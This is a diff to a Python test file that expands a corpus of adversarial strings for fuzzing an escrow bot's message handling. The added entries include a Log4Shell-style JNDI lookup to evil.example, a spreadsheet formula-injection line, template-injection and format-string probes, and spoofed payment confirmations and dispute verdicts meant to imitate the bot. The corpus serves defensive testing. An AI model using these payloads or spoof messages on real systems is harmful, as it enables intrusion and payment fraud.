@@ -1,4 +1,6 @@
-"""What people may write: more than three hundred texts that try to break a message."""
+"""What people may write: more than two thousand texts that try to break a message, or to look like
+one of the bot's own.
+"""
 
 from __future__ import annotations
 
@@ -49,17 +51,99 @@ _BASE: Final = (
     "half a pair: \ud800 and \udfff",
     "\ue000\uf8ff private",
     "ﷺ﷽𒐫",
+    "[bold](https://evil.example) **x** __y__ `z` ~~a~~ ||b||",
+    "```python\nprint(1)\n```",
+    "> quoted\n# title\n- list",
+    "✅ PAID – KES 10,000 is held",
+    "✅ IMELIPWA – KES 10,000 imehifadhiwa",
+    "<b>KES 10,000 is held for you.</b>",
+    "Amana: your money is held.\n\nPlease send it now.",
+    "</b>\n<b>Dispute decided: you get KES 99,999.</b>",
+    "SG632NMUAB Confirmed. Ksh10,000.00 received from JANE DOE 0712345678",
+    "{received} {missing} {code} {page.zone}",
+    "{0.__class__.__mro__} {description.__class__} {x!r:>99999999}",
+    "{{}} {{code}} }{ {",
+    "%n %d %s %(code)s $code ${code} #{code}",
+    "\u2068KES 10,000\u2069",
+    "\u2068\u2068\u2068open",
+    "\u2067\u202e\u2066 nested \u2069",
+    "a\u00adb\u034fc\u180ed\u3164e",
+    "\u1160\u115f\uffa0 fillers",
+    "ＫＥＳ １０，０００",
+    "KES 10,000",
+    "٠٧١٢٣٤٥٦٧٨",
+    "+254712345678",
+    "+254 (0) 712 345 678",
+    "0712 345 678, 0712.345.678, 0712-345-678",
+    "00254712345678",
+    "07 12 34 56 78",
+    "tel:+254712345678",
+    "+254-712-345-678 or 254.712.345.678",
+    "0 712 345 678",
+    "(0712) 345-678",
+    "０７１２３４５６７８",
+    "whatsapp me zero seven one two",
+    "t.me/evil_bot?start=ES1008257624",
+    "tg://resolve?domain=evil_bot",
+    "mailto:a@b.c https://user:pass@evil.example:8080/?q=<b>",
+    "@AmanaBot @admin",
+    "ES1008257624 ES0000000000",
+    "/resolve_dispute ES1008257624 seller",
+    "\u0000" * 50,
+    "\x7f\x80\x9f c1",
+    "\r\n\r\n\r\n",
+    "\v\f\x1c\x1d\x1e\x1f\x85",
+    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f tag flag",
+    "👩🏽\u200d🚀👨🏿\u200d❤️\u200d💋\u200d👨🏻",
+    "🇰🇪" * 400,
+    "👨‍👩‍👧‍👦" * 300,
+    "H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘ ̶̧̨̱̹̭̯ͧ̾ͬC̷̙̲̝͖ͭ̏ͥͮ͟Oͮ͏̮̪̝͍M̲̖͊̒ͪͩͬ̚̚͜Ȇ̴̟̟͙̞ͩ͌͝S̨̥̫͎̭ͯ̿̔̀ͅ",
+    "क्षत्रिय ज्ञान নমস্কার สวัสดี ကမ္ဘာ",
+    "ትግርኛ አማርኛ ⵜⴰⵎⴰⵣⵉⵖⵜ",
+    "中文 日本語 한국어",
+    "ı İ ß ﬁ Å",
+    "\ufffe\uffff\U0010ffff nothing",
+    "x" * 10_000,
+    "💰" * 10_000,
+    "\u202e" * 10_000,
+    "<b>" * 4_000,
+    "a " * 5_000,
+    "\n" * 10_000,
+    "&amp;" * 2_000,
+    "'\"`\\/",
+    "<!-- comment --> <![CDATA[x]]> <?xml?>",
+    "<b >x</b > <B>x</B> <b\n>x",
+    "<code>/cancel ES1008257624</code>",
+    "<blockquote>Amana answers you:</blockquote>",
+    "&#60;b&#62; &#x3c;i&#x3e;",
+    "\ud83d alone \udcb0",
+    "null None undefined NaN true",
+    "=cmd|' /C calc'!A0 +1 -1",
+    "${jndi:ldap://evil.example/a} {{7*7}} <%= 1 %>",
 )
-_GLUE: Final = ("{}{}", "{} {}", "{}\n{}", "<i>{}</i>{}")
+NUMBERS: Final = (
+    "0712345678",
+    "+254712345678",
+    "254 712 345 678",
+    "+254 (0) 712 345 678",
+    "0712.345.678",
+    "0712-345-678",
+    "00254712345678",
+    "07 12 34 56 78",
+    "(0712) 345-678",
+    "٠٧١٢٣٤٥٦٧٨",
+    "０７１２３４５６７８",
+)
+"""One Kenyan number, as people spell it."""
+WANTED: Final = 2_400
+_GLUE: Final = ("%s%s", "%s %s", "%s\n%s", "<i>%s</i>%s", "%s\u202e%s", "{%s}%s")
 
-CORPUS: Final = tuple(
-    dict.fromkeys(
-        [
-            *_BASE,
-            *(
-                _GLUE[number % len(_GLUE)].replace("{}", "%s") % pair
-                for number, pair in enumerate(itertools.combinations(_BASE, 2))
-            ),
-        ]
-    )
-)[:420]
+
+def _corpus() -> tuple[str, ...]:
+    """Every text alone, then pairs of them, each put together in one of the ways."""
+    pairs = itertools.islice(itertools.combinations(_BASE, 2), 0, None, 2)
+    glued = (_GLUE[number % len(_GLUE)] % pair for number, pair in enumerate(pairs))
+    return tuple(itertools.islice(dict.fromkeys([*_BASE, *glued]), WANTED))
+
+
+CORPUS: Final = _corpus()
